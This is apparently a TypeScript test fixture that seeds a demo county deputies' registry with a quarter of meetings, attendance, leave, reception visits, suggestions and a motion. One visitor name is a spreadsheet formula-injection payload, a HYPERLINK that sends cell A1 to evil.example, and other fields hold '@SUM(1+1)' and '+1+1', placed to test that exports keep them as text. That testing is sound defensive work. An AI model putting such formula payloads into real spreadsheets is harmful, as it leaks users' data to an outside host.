// A seeded quarter for the registers: the demo county's roster and, in 2026's third quarter
// (July–September, past on any date the tests run), what the books are made of — meetings and
// activities with attendance, leave, proxy sign-ins and written accounts, a reception day with
// its duty and visitors, suggestions through to a rating, and a motion with its co-signers.
// Everything is written straight into the tables, with fixed times, so every test can check the
// books cell by cell.
import { createActivityWithInvitees } from '../../src/repositories/activity-repo.ts';
import type { Db } from '../../src/repositories/prisma.ts';
import { loadDemoRoster } from '../../src/services/roster/roster-service.ts';

/** The seeded quarter, 2026Q3, in Shanghai days. */
export const SEEDED = { fromDay: '2026-07-01', toDay: '2026-09-30', quarter: '2026Q3' };

/** A visitor "name" that a spreadsheet would run as a formula (it must stay text). */
export const INJECTED_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")';

export interface SeededQuarter {
  orgId: number;
  people: Record<string, number>;
  units: Record<string, number>;
  activities: Record<'study' | 'inspection' | 'visit' | 'cancelled' | 'reception' | 'group2' | 'nextQuarter', number>;
}

const at = (shanghai: string) => new Date(`${shanghai}:00+08:00`);

export async function seedRegisterQuarter(db: Db, orgCode = 'default'): Promise<SeededQuarter> {
  await loadDemoRoster(db, orgCode);
  const org = await db.organisation.findUniqueOrThrow({ where: { code: orgCode } });
  const accounts = await db.platformAccount.findMany({ where: { orgId: org.id } });
  const people = Object.fromEntries(accounts.map((a) => [a.platformUserId, a.personId]));
  const units = Object.fromEntries((await db.unit.findMany({ where: { orgId: org.id } })).map((u) => [u.name, u.id]));
  const p = (wecom: string) => people[wecom]!;
  const activity = async (unit: string, kind: string, title: string, start: string, end: string, extra: { content?: string; account?: string; accountBy?: string; createdBy?: string; status?: string } = {}) => {
    const a = await createActivityWithInvitees(db, {
      orgId: org.id, unitId: units[unit]!, kind, title, startAt: at(start), endAt: at(end), place: '县人大常委会三楼会议室',
      content: extra.content ?? '', signInCode: null, signInOpensBefore: 30, createdById: extra.createdBy ? p(extra.createdBy) : null,
    });
    await db.activity.update({
      where: { id: a.id },
      data: { status: extra.status ?? 'scheduled', account: extra.account ?? null, accountById: extra.accountBy ? p(extra.accountBy) : null, accountAt: extra.account ? at(end) : null },
    });
    return a.id;
  };
  const attend = (activityId: number, wecom: string, status: string, signedAt?: string, method = 'self', recordedBy?: string) =>
    db.attendance.create({ data: { orgId: org.id, activityId, personId: p(wecom), status, method, signedInAt: signedAt ? at(signedAt) : null, recordedById: recordedBy ? p(recordedBy) : null } });
  const leave = (activityId: number, wecom: string, status: string, reason: string, created: string) =>
    db.leaveRequest.create({ data: { orgId: org.id, activityId, personId: p(wecom), year: 2026, reason, status, createdAt: at(created), decidedAt: at(created) } });

  const study = await activity('第一代表小组', 'study', '学习代表法', '2026-07-15 14:00', '2026-07-15 16:30', {
    content: '学习代表法第四章', account: '一、活动内容：学习代表法\n四、活动成效：交流了闭会期间履职体会', accountBy: 'sunjianguo', createdBy: 'zhaowenhua',
  });
  await attend(study, 'zhaowenhua', 'present', '2026-07-15 13:50');
  await attend(study, 'qianxiuying', 'present', '2026-07-15 13:55');
  await attend(study, 'sunjianguo', 'present', '2026-07-15 14:05', 'proxy', 'zhaowenhua');
  await attend(study, 'lichunmei', 'leave');
  await attend(study, 'wuxiaodong', 'attending');
  await leave(study, 'lichunmei', 'approved', '到市里参加培训，无法参加', '2026-07-13 09:00');

  const inspection = await activity('第一代表小组', 'inspection', '视察城关镇农贸市场', '2026-08-20 09:00', '2026-08-20 11:30', {
    content: '农贸市场食品安全', account: '四、活动成效：提出改进摊位管理的意见', accountBy: 'zhaowenhua', createdBy: 'zhaowenhua',
  });
  for (const w of ['zhaowenhua', 'lichunmei', 'wuxiaodong', 'zhouhaitao']) await attend(inspection, w, 'present', '2026-08-20 08:50');
  await attend(inspection, 'qianxiuying', 'leave_rejected');
  await attend(inspection, 'sunjianguo', 'leave');
  await leave(inspection, 'sunjianguo', 'approved', '单位有急事', '2026-08-18 10:00');
  await leave(inspection, 'qianxiuying', 'rejected', '身体不适', '2026-08-19 10:00');

  const visit = await activity('第一代表小组', 'visit', '走访幸福村困难户', '2026-09-10 09:00', '2026-09-10 12:00', { content: '了解困难户生活情况', createdBy: 'sunjianguo' });
  await attend(visit, 'zhaowenhua', 'present', '2026-09-10 08:55');
  await attend(visit, 'sunjianguo', 'present', '2026-09-10 08:58');

  const cancelled = await activity('第一代表小组', 'research', '调研（已取消）', '2026-09-20 09:00', '2026-09-20 11:00', { status: 'cancelled' });
  const reception = await activity('城关镇人大代表联络站', 'reception', '9月接待选民日', '2026-09-01 09:00', '2026-09-01 11:30');
  await attend(reception, 'zhaowenhua', 'present', '2026-09-01 08:50');
  await attend(reception, 'lichunmei', 'present', '2026-09-01 08:52');
  const group2 = await activity('第二代表小组', 'study', '学习监督法', '2026-08-05 14:00', '2026-08-05 16:00');
  await attend(group2, 'wangguoqiang', 'present', '2026-08-05 13:58');
  const nextQuarter = await activity('第一代表小组', 'study', '学习选举法', '2026-10-20 14:00', '2026-10-20 16:00');

  const occurrence = await db.receptionOccurrence.create({ data: { orgId: org.id, unitId: units['城关镇人大代表联络站']!, date: '2026-09-01', month: '2026-09', status: 'held' } });
  for (const w of ['zhaowenhua', 'lichunmei']) await db.receptionDuty.create({ data: { occurrenceId: occurrence.id, personId: p(w) } });
  const visitRow = (n: number, data: Record<string, unknown>) =>
    db.receptionVisit.create({
      data: {
        orgId: org.id, unitId: units['城关镇人大代表联络站']!, occurrenceId: occurrence.id, recordedById: p('lichunmei'), category: '城乡建设',
        deadline: '2026-09-10', sourceKey: `seed-visit-${n}`, createdAt: at('2026-09-01 10:00'), ...data,
      } as never,
    });
  await visitRow(1, { visitorName: '王大妈', visitorPhone: '13912345678', visitorAddress: '幸福村3组', issue: '路灯坏了，晚上出行不便', status: 'assigned', assignedTo: '县住建局', assignedAt: at('2026-09-03 10:00') });
  await visitRow(2, {
    visitorName: '张师傅', visitorPhone: '13700001111', visitorAddress: '东街12号', issue: '小区门口积水', status: 'answered', assignedTo: '城关镇政府',
    assignedAt: at('2026-09-02 10:00'), answerAt: at('2026-09-08 15:00'), answerForm: '电话', answerText: '已疏通排水沟', satisfaction: '满意',
  });
  await visitRow(3, { visitorName: INJECTED_NAME, visitorPhone: '13800009999', issue: '@SUM(1+1)', category: '+1+1', status: 'recorded' });

  const housing = await db.department.create({ data: { orgId: org.id, name: '县住建局' } });
  await db.department.create({ data: { orgId: org.id, name: '县交通运输局' } });
  const s1 = await db.suggestion.create({
    data: {
      orgId: org.id, personId: p('lichunmei'), year: 2026, kind: '建议', seq: 1, number: '2026-建-0001', title: '关于幸福村主干道路灯维修的建议', content: '路灯损坏较多',
      status: 'rated', sourceKey: 'seed-s1', createdAt: at('2026-08-01 10:00'), assignDeadline: '2026-08-17', answerDeadline: '2026-11-05', assignedAt: at('2026-08-05 10:00'), rounds: 1,
    },
  });
  await db.suggestionAssignment.create({ data: { orgId: org.id, suggestionId: s1.id, departmentId: housing.id, role: 'lead', rev: 2, assignedAt: at('2026-08-05 10:00') } });
  await db.suggestionTalk.create({ data: { orgId: org.id, suggestionId: s1.id, rev: 3, heldOn: '2026-08-20', place: '县住建局', participants: '李科长、李春梅', createdAt: at('2026-08-20 10:00') } });
  await db.suggestionAnswer.create({ data: { orgId: org.id, suggestionId: s1.id, round: 1, departmentId: housing.id, form: '书面', text: '已更换路灯 12 盏', answeredAt: at('2026-09-05 10:00'), rating: '满意', ratedAt: at('2026-09-06 10:00') } });
  await db.suggestion.create({
    data: { orgId: org.id, personId: p('wuxiaodong'), year: 2026, kind: '意见', seq: 1, number: '2026-意-0001', title: '关于城关镇中学门口交通安全的意见', content: '上下学拥堵', status: 'submitted', sourceKey: 'seed-s2', createdAt: at('2026-09-15 10:00'), assignDeadline: '2026-09-30' },
  });
  const motion = await db.motion.create({
    data: { orgId: org.id, starterId: p('zhaowenhua'), title: '关于加快城关镇污水管网建设的议案', reason: '管网老化', proposal: '列入明年计划', status: 'submitted', year: 2026, seq: 1, number: '2026-议-0001', sourceKey: 'seed-m1', createdAt: at('2026-09-05 10:00'), submittedAt: at('2026-09-08 10:00') },
  });
  for (const [i, w] of ['zhaowenhua', 'qianxiuying', 'sunjianguo', 'lichunmei', 'zhouhaitao'].entries()) {
    await db.motionSigner.create({ data: { motionId: motion.id, personId: p(w), invitedAt: at('2026-09-05 10:00'), signedAt: at(`2026-09-0${5 + Math.min(i, 3)} 11:00`) } });
  }
  return { orgId: org.id, people, units, activities: { study, inspection, visit, cancelled, reception, group2, nextQuarter } };
}
